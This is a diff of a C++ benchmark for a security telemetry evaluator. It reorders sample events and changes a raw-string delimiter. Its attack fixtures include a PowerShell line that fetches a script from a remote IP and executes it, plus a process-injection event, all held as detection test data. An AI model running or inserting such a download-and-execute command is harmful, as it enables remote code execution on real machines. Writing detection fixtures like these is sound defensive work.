@@ -65,7 +65,7 @@ std::string event(const std::string& agent, const char* telemetry) {
 const char* kAttacks[] = {
     R"({"event":"dns.response","domain":"a.suspicious.example","answer_count":40})",
     R"({"event":"process.inject","source_process":"loader.exe","target_process":"explorer.exe"})",
-    R"({"event":"exec.powershell","command":"Invoke-Expression (iwr http://203.0.113.9/a.ps1)"})",
+    R"j({"event":"exec.powershell","command":"Invoke-Expression (iwr http://203.0.113.9/a.ps1)"})j",
 };
 
 const char* kBenign[] = {
@@ -115,7 +115,7 @@ void BM_Evaluate(benchmark::State& state) {
   static const std::vector<Value> events = [] {
     std::vector<Value> out;
     for (int i = 0; i < 8; ++i) {
-      const char* t = i == 7 ? kAttacks[1] : kBenign[i % 7];
+      const char* t = i == 0 ? kAttacks[1] : kBenign[i % 7];  // first: a 1-iteration trial sees it
       out.push_back(validate_event(core::parse_json(event("a", t)).value()).value());
     }
     return out;
